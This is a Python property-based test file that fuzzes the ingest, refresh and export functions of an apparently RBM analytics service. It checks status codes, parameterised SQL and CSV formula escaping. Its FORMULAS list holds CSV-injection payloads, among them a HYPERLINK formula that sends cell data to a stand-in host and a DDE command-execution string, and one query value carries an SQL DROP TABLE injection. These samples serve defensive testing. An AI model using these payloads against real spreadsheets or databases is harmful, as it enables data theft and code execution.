"""Hostile input to all three functions: never a 500, nothing stored, no value spliced into SQL.

Hypothesis draws headers, bodies and query strings; every text it draws
carries a marker, and every SQL statement the functions send to BigQuery is
captured: the marker must never appear in SQL text (values travel only as
query parameters).

The strategies aim at the edges where parsers break: years 1 and 9999, day 0,
the 29th of February in leap and common years, hour 24 and second 60, ranges
of thousands of years, JSON nested a hundred thousand deep, times just inside
and outside what ingest accepts (5 minutes ahead, RETENTION_DAYS back), and
credentials bound to another agent. Each edge also has an explicit example,
so it is tried on every run whatever the random draw.

Every answer of every function carries ``X-Content-Type-Options: nosniff``.
Two tests check exact answers rather than "not a 500": ingest's status for
every combination of credential, agent, message owner and time (an oracle
computes the specified one), and the export's CSV, where no text cell may
begin with anything a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import uuid
from typing import Any

import pytest
from google.cloud import bigquery, firestore
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rbm_analytics.core import clients
from rbm_analytics.core.tables import ALL_TABLES, ensure_tables, table_defs
from rbm_analytics.core.timeutil import format_us, now_us
from rbm_analytics.export.format import FORMULA_STARTS
from rbm_analytics_dev.local import emulators

from tests.app_client import client_for
from tests.daily_rows import daily
from tests.integration.ingest_support import stored_bytes
from tests.support import (
    AGENT_A,
    AGENT_B,
    KEY_A,
    KEY_B,
    PROJECT,
    PUSH_TOKEN,
    PUSH_TOKENS,
    REPO_ROOT,
    TOKEN_A,
    TOKEN_B,
    TWO_AGENT_ENV,
    bearer,
    pubsub_push,
    signed_webhook,
)

MARK = "Zq9"
marked = st.text(max_size=30).map(lambda s: f"{MARK}{s}")
# Real dates from year 1 to 9999, and strings that only look like dates.
EDGE_DATES = (
    "0001-01-01", "0001-01-05", "9999-12-31", "0000-00-00", "2024-02-29", "2025-02-29",
    "2026-01-00", "2026-00-10", "2026-13-01", "2026-02-30", "1999-12-31", "2000-01-01",
    "2099-12-31", "2100-01-01", "+2026-01-01", "2026-1-1",
)  # fmt: skip
dates = st.one_of(st.dates().map(lambda d: d.isoformat()), st.sampled_from(EDGE_DATES))
EDGE_TIMES = (
    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "2024-02-29T12:00:00Z",
    "2025-02-29T12:00:00Z", "2026-01-00T00:00:00Z", "2026-01-01T24:00:00Z",
    "2026-01-01T23:59:60Z", "2026-01-01T00:00:00+24:00", "2026-01-01T00:00:00-23:59",
    "2026-01-01T00:00:00.0000000001Z", "2026-01-01", "1767225600",
)  # fmt: skip


def deep_list(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def deep_object(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1", "\r=1", "=cmd|' /C calc'!A0",
)  # fmt: skip


nested = st.sampled_from([20, 1_000, 100_000]).flatmap(
    lambda d: st.sampled_from([deep_list(d), deep_object(d)])
)
anything = st.one_of(
    marked, dates, st.sampled_from(EDGE_TIMES), st.integers(), st.floats(allow_nan=False),
    st.none(), st.booleans(), st.lists(marked, max_size=3),
    st.dictionaries(marked, marked, max_size=3),
)  # fmt: skip
CASES = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def sql_log(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every SQL text any BigQuery client in this process sends."""
    seen: list[str] = []
    original = bigquery.Client.query

    def query(self: bigquery.Client, sql: str, *args: Any, **kwargs: Any) -> Any:
        seen.append(sql)
        return original(self, sql, *args, **kwargs)

    monkeypatch.setattr(bigquery.Client, "query", query)
    return seen


@pytest.fixture
def warehouse(bigquery_emulator: Any, firestore_host: str, monkeypatch: pytest.MonkeyPatch) -> str:
    dataset = f"hostile_{uuid.uuid4().hex[:10]}"
    monkeypatch.setenv("BIGQUERY_EMULATOR_HOST", bigquery_emulator.host)
    monkeypatch.setenv("BQ_DATASET", dataset)
    clients.reset()
    # As deployed: the tables exist (Terraform creates them) before any request.
    ensure_tables(clients.bigquery_client(), PROJECT, dataset, "US")
    return dataset


@functools.cache
def _app(target: str) -> Any:
    import functions_framework

    return functions_framework.create_app(target, str(REPO_ROOT / "functions" / "main.py"))


def _documents() -> int:
    db = firestore.Client(project=PROJECT)
    return sum(
        1 for c in ("agent_messages", "user_messages", "user_events")
        for _ in db.collection(c).select([]).stream()
    )  # fmt: skip


def _table_rows(dataset: str) -> dict[str, int]:
    """Row counts of every table a refresh writes, in one query."""
    counts = ", ".join(
        f"(SELECT COUNT(*) FROM `{PROJECT}.{dataset}.{t}`) AS {t}" for t in ALL_TABLES
    )
    (row,) = clients.bigquery_client().query(f"SELECT {counts}").result()
    return dict(row)


def _assert_no_marker(sql_log: list[str]) -> None:
    spliced = [sql for sql in sql_log if MARK in sql]
    assert not spliced, spliced[0][:500]


@given(
    route=st.sampled_from(
        ["/", "/agent-messages", "/pubsub", f"/pubsub?token={PUSH_TOKEN}", f"/{MARK}"]
    ),
    method=st.sampled_from(["POST", "GET", "PUT", "DELETE"]),
    body=st.one_of(
        st.binary(max_size=300), anything.map(lambda v: json.dumps(v).encode()), nested
    ),
    headers=st.dictionaries(
        st.sampled_from(["X-Goog-Signature", "Authorization", "Content-Type", "X-Other"]),
        # What can travel in an HTTP header: visible ASCII and spaces.
        st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=40).map(
            lambda s: f"{MARK}{s}"), max_size=3,
    ),
    signed=st.one_of(st.none(), nested, st.dictionaries(st.sampled_from(
        ["agentId", "messageId", "eventId", "eventType", "senderPhoneNumber", "sendTime",
         "text", "location", "userFile", "suggestionResponse", "phoneNumber"]),
        anything, max_size=6)),
)  # fmt: skip
@example(route="/", method="POST", body=deep_list(100_000), headers={}, signed=None)
@example(route="/agent-messages", method="POST", body=deep_object(100_000), headers={},
         signed=None)  # fmt: skip
@example(
    route="/",
    method="POST",
    body=b"",
    headers={},
    signed={
        "agentId": "acme-agent",
        "eventType": "READ",
        "eventId": "e",
        "messageId": "m",
        "senderPhoneNumber": "+12223334444",
        "sendTime": "0001-01-01T00:00:00Z",
    },
)
@example(
    route="/",
    method="POST",
    body=b"",
    headers={},
    signed={
        "agentId": "acme-agent",
        "text": "x",
        "messageId": "m",
        "senderPhoneNumber": "+12223334444",
        "sendTime": "9999-12-31T23:59:59Z",
    },
)
@example(
    route="/",
    method="POST",
    body=b"",
    headers={},
    signed={
        "agentId": "acme-agent",
        "eventType": "IS_TYPING",
        "eventId": "e",
        "senderPhoneNumber": "+12223334444",
        "sendTime": "2025-02-29T00:00:00Z",
    },
)
@example(
    route="/",
    method="POST",
    body=b"",
    headers={},
    signed={
        "agentId": "acme-agent",
        "eventType": "IS_TYPING",
        "eventId": "e",
        "senderPhoneNumber": "+12223334444",
        "sendTime": "2026-01-00T00:00:00Z",
    },
)
@example(route=f"/pubsub?token={PUSH_TOKEN}", method="POST", body=deep_list(100_000),
         headers={}, signed=None)  # fmt: skip
@example(route="/", method="POST", body=b"", headers={}, signed=deep_object(100_000))
@example(route=f"/pubsub?token={PUSH_TOKEN}", method="POST", body=b"", headers={},
         signed=deep_list(100_000))  # fmt: skip
@CASES
def test_ingest_hostile_requests(
    firestore_host: str,
    monkeypatch: pytest.MonkeyPatch,
    route: str,
    method: str,
    body: bytes,
    headers: dict[str, str],
    signed: dict[str, Any] | bytes | None,
) -> None:
    emulators.wipe_firestore(firestore_host, PROJECT)
    monkeypatch.setenv("PUBSUB_PUSH_TOKENS", PUSH_TOKENS)
    clients.reset()
    client = client_for(_app("ingest"))
    if signed is not None:  # a correctly signed payload, so parsing is reached
        body, signed_headers = signed_webhook(signed)
        headers = {**headers, **signed_headers}
    if route == "/agent-messages" and "Authorization" not in headers:
        headers = {**headers, **bearer()}
    resp = client.open(route, method=method, data=body, headers=headers)
    assert resp.status_code < 500, resp.get_data(as_text=True)
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    if resp.status_code != 200:
        assert _documents() == 0


@given(
    method=st.sampled_from(["POST", "POST", "GET", "PATCH"]),
    body=st.one_of(
        st.binary(max_size=200),
        st.dictionaries(st.sampled_from(["run_date", "start", "end", MARK]), anything,
                        max_size=3).map(lambda d: json.dumps(d).encode()),
        nested,
    ),
)  # fmt: skip
@example(method="POST", body=deep_list(100_000))
@example(method="POST", body=deep_object(100_000))
@example(method="POST", body=b'{"run_date": ' + deep_list(50_000) + b"}")
@example(method="POST", body=json.dumps({"run_date": "0001-01-03"}).encode())
@example(method="POST", body=json.dumps({"start": "0001-01-01", "end": "9999-12-31"}).encode())
@example(method="POST", body=json.dumps({"run_date": "2025-02-29"}).encode())
@example(method="POST", body=json.dumps({"run_date": "2026-01-00"}).encode())
@CASES
def test_refresh_hostile_requests(
    warehouse: str, sql_log: list[str], method: str, body: bytes
) -> None:
    before = _table_rows(warehouse)
    resp = client_for(_app("refresh")).open("/", method=method, data=body)
    assert resp.status_code < 500, resp.get_data(as_text=True)
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    if resp.status_code != 200:
        assert _table_rows(warehouse) == before
    _assert_no_marker(sql_log)


@given(
    path=st.sampled_from(["/", "/ui", "/agents", f"/{MARK}"]),
    params=st.dictionaries(
        st.sampled_from(["start", "end", "scale", "metrics", "agent", "format", "status",
                         "total", MARK]),
        st.one_of(marked, dates, st.sampled_from(["day", "week", "month", "csv", "json", "0",
                                                  "1", "sent,read_rate", "sent;DROP TABLE x",
                                                  *FORMULAS])),
        max_size=6,
    ),
    method=st.sampled_from(["GET", "GET", "POST"]),
)  # fmt: skip
@example(path="/", params={"end": "0001-01-05"}, method="GET")
@example(path="/", params={"start": "0001-01-01", "end": "9999-12-31"}, method="GET")
@example(path="/agents", params={"start": "0001-01-01", "end": "9999-12-31"}, method="GET")
@example(path="/", params={"start": "9999-12-31"}, method="GET")
@example(path="/", params={"start": "2000-01-01", "end": "2099-12-31", "scale": "month"},
         method="GET")  # fmt: skip
@example(path="/", params={"start": "2024-02-29", "end": "2025-02-28", "scale": "week"},
         method="GET")  # fmt: skip
@example(path="/", params={"end": "2025-02-29"}, method="GET")
@example(path="/", params={"start": "2026-01-00"}, method="GET")
@example(path="/", params={"agent": FORMULAS[0]}, method="GET")
@CASES
def test_export_hostile_requests(
    warehouse: str, sql_log: list[str], path: str, params: dict[str, str], method: str
) -> None:
    resp = client_for(_app("export")).open(path, method=method, query_string=params)
    body = resp.get_data()  # drain the stream: errors inside it must not be 500s either
    assert resp.status_code < 500, body[:500]
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    if path == "/" and params.get("agent", "").startswith(FORMULA_STARTS):
        assert resp.status_code in (400, 405)  # never a row selected by it
    _assert_no_marker(sql_log)


# --------------------------------------------------------------------------
# Exported text cells never start a formula
# --------------------------------------------------------------------------
formula_like = st.one_of(
    st.sampled_from(FORMULAS),
    st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=20)).map("".join),
)
text_ids = st.one_of(formula_like, st.sampled_from(["acme-agent", "a=b", "'quoted", " =1"]))


def _is_text(cell: str) -> bool:
    """Whether a CSV cell is text (not a number, not a date, not empty)."""
    if not cell:
        return False
    try:
        float(cell)
        return False
    except ValueError:
        pass
    return not (len(cell) == 10 and cell[4] == cell[7] == "-" and cell.replace("-", "").isdigit())


@given(
    agents=st.lists(text_ids, min_size=1, max_size=3, unique=True),
    scale=st.sampled_from(["day", "week", "month"]),
    status=st.sampled_from(["0", "1"]),
    total=st.sampled_from(["0", "1"]),
    metrics=st.sampled_from(["sent", "sent,read_rate", "read,agent_response_p50_s"]),
)
@example(agents=list(FORMULAS), scale="day", status="1", total="1", metrics="sent,read_rate")
@settings(CASES, max_examples=15)
def test_exported_text_cells_never_start_a_formula(
    warehouse: str, agents: list[str], scale: str, status: str, total: str, metrics: str
) -> None:
    """Rows whose agent ids look like formulas (written straight into the daily
    table, as an older version or another writer might have): every text cell
    of every CSV variant is safe, and each id survives as text behind a quote."""
    bq = clients.bigquery_client()
    table = f"{PROJECT}.{warehouse}.daily_metrics"
    bq.query(f"DELETE FROM `{table}` WHERE TRUE").result()
    rows = [daily(f"2026-01-0{d}", agent, sent=d, read=1) for d in (1, 2, 3) for agent in agents]
    config = bigquery.LoadJobConfig(
        schema=table_defs()["daily_metrics"].schema(),
        source_format=bigquery.SourceFormat.NEWLINE_DELIMITED_JSON,
    )
    bq.load_table_from_json(rows, table, job_config=config).result()
    query = {"start": "2026-01-01", "end": "2026-01-03", "scale": scale, "status": status,
             "total": total, "metrics": metrics}  # fmt: skip
    resp = client_for(_app("export")).get("/", query_string=query)
    assert resp.status_code == 200, resp.get_data()[:300]
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    cells = list(csv.reader(io.StringIO(resp.get_data().decode(), newline="")))
    texts = [cell for row in cells[1:] for cell in row if _is_text(cell)]
    assert texts, "no text cell was exported"
    assert not [c for c in texts if c.startswith(FORMULA_STARTS)]
    exported_ids = {row[1] for row in cells[1:]}
    for agent in agents:
        assert ("'" + agent if agent.startswith(FORMULA_STARTS) else agent) in exported_ids


# --------------------------------------------------------------------------
# Ingest answers exactly as specified
# --------------------------------------------------------------------------
MINUTE_US, DAY_US = 60_000_000, 86_400_000_000
PUSH_A, PUSH_B = "push-token-of-acme-0123456789abcd", "push-token-of-bravo-0123456789abc"
CREDENTIALS = {
    AGENT_A: {"token": TOKEN_A, "push": PUSH_A, "key": KEY_A},
    AGENT_B: {"token": TOKEN_B, "push": PUSH_B, "key": KEY_B},
    "wrong": {"token": "not-a-token", "push": "not-a-push-token-0123456789abcdef",
              "key": "not-an-api-key-0123456789abcdef01"},
}  # fmt: skip
# Offsets from now: inside (True) or outside (False) what ingest accepts
# (5 minutes ahead, RETENTION_DAYS = 90 back), kept well clear of the limits.
OFFSETS = {-60_000_000: True, 4 * MINUTE_US: True, 6 * MINUTE_US: False,
           -89 * DAY_US: True, -91 * DAY_US: False}  # fmt: skip


def _expected(route: str, cred: str, agent: str, owned: bool, kind: str, ok_time: bool) -> int:
    """The specified status, checks in the order ingest makes them."""
    if cred == "wrong":
        return 401
    if not ok_time:
        return 400
    if cred != agent:
        return 403
    if owned and agent != AGENT_A and kind != "text":
        return 409 if route == "agent-messages" else 200  # 200 with a conflict count
    return 200


@given(
    route=st.sampled_from(["webhook", "pubsub", "agent-messages"]),
    cred=st.sampled_from([AGENT_A, AGENT_B, "wrong"]),
    agent=st.sampled_from([AGENT_A, AGENT_B]),
    owned=st.booleans(),
    kind=st.sampled_from(["READ", "DELIVERED", "text"]),
    when=st.one_of(st.sampled_from(sorted(OFFSETS)), st.sampled_from(EDGE_TIMES)),
)
@example(
    route="agent-messages",
    cred=AGENT_B,
    agent=AGENT_B,
    owned=True,
    kind="READ",
    when="2000-01-01T00:00:00Z",
)  # the reported re-post: an impossible time first
@example(route="agent-messages", cred=AGENT_B, agent=AGENT_B, owned=True, kind="READ",
         when=-60_000_000)  # fmt: skip
@example(route="webhook", cred=AGENT_B, agent=AGENT_B, owned=True, kind="READ", when=-60_000_000)
@example(route="pubsub", cred=AGENT_B, agent=AGENT_A, owned=True, kind="READ", when=-60_000_000)
@example(route="webhook", cred=AGENT_A, agent=AGENT_A, owned=False, kind="text",
         when="9999-12-31T23:59:59.999999999Z")  # fmt: skip
@example(route="webhook", cred=AGENT_A, agent=AGENT_A, owned=False, kind="READ",
         when="0001-01-01T00:00:00Z")  # fmt: skip
@example(route="agent-messages", cred=AGENT_A, agent=AGENT_A, owned=False, kind="READ",
         when="2025-02-29T12:00:00Z")  # fmt: skip
@example(route="webhook", cred=AGENT_A, agent=AGENT_A, owned=False, kind="READ",
         when=6 * MINUTE_US)  # fmt: skip
@settings(CASES, max_examples=60)
def test_ingest_answers_the_specified_status(
    firestore_host: str,
    monkeypatch: pytest.MonkeyPatch,
    route: str,
    cred: str,
    agent: str,
    owned: bool,
    kind: str,
    when: int | str,
) -> None:
    env = {**TWO_AGENT_ENV, "PUBSUB_PUSH_TOKENS": f"{PUSH_A}:{AGENT_A},{PUSH_B}:{AGENT_B}",
           "RETENTION_DAYS": "90"}  # fmt: skip
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    clients.reset()
    emulators.wipe_firestore(firestore_host, PROJECT)
    client = client_for(_app("ingest"))
    now = now_us()
    owner = {"agentId": AGENT_A, "name": "phones/+12223334444/agentMessages/owned",
             "sendTime": format_us(now - 2 * 3_600_000_000)}  # fmt: skip
    seeded = client.post("/agent-messages", json=owner, headers=bearer(KEY_A))
    assert seeded.status_code == 200
    before = stored_bytes()

    send_time = format_us(now + when) if isinstance(when, int) else when
    ok_time = OFFSETS[when] if isinstance(when, int) else False  # every edge string is refused
    mid = "owned" if owned else "fresh"
    secrets = CREDENTIALS[cred]
    if route == "agent-messages":
        record = {"agentId": agent, "name": f"phones/+15556667777/agentMessages/{mid}",
                  "sendTime": send_time}  # fmt: skip
        resp = client.post("/agent-messages", json=record, headers=bearer(secrets["key"]))
    else:
        payload: dict[str, Any] = {"agentId": agent, "senderPhoneNumber": "+15556667777",
                                   "messageId": mid, "sendTime": send_time}  # fmt: skip
        payload |= {"text": "hi"} if kind == "text" else {"eventType": kind, "eventId": "e1"}
        body, headers = signed_webhook(payload, secrets["token"])
        if route == "pubsub":
            data = json.dumps(payload).encode()
            resp = client.post(f"/pubsub?token={secrets['push']}", data=pubsub_push(data),
                               headers={"Content-Type": "application/json"})  # fmt: skip
        else:
            resp = client.post("/", data=body, headers=headers)

    expected = _expected(route, cred, agent, owned, kind, ok_time)
    answer = resp.get_json()
    assert resp.status_code == expected, answer
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    conflict = expected == 200 and owned and agent != AGENT_A and kind != "text"
    if expected != 200 or conflict:
        assert stored_bytes() == before  # refused, or another agent's: not a byte changed
    if conflict:
        assert answer == {"stored": 0, "duplicate": 0, "conflict": 1}
    elif expected == 200:
        new = {"stored": 1, "duplicate": 0}
        # Agent A's own message again: stored if earlier than what is kept, else a duplicate.
        assert answer == new or (owned and answer == {"stored": 0, "duplicate": 1})
    else:
        assert set(answer) == {"error"}


def test_marker_would_be_caught(sql_log: list[str]) -> None:
    """The SQL check itself can fail: a spliced value is detected."""
    sql_log.append(f"SELECT '{MARK}x'")
    with pytest.raises(AssertionError):
        _assert_no_marker(sql_log)
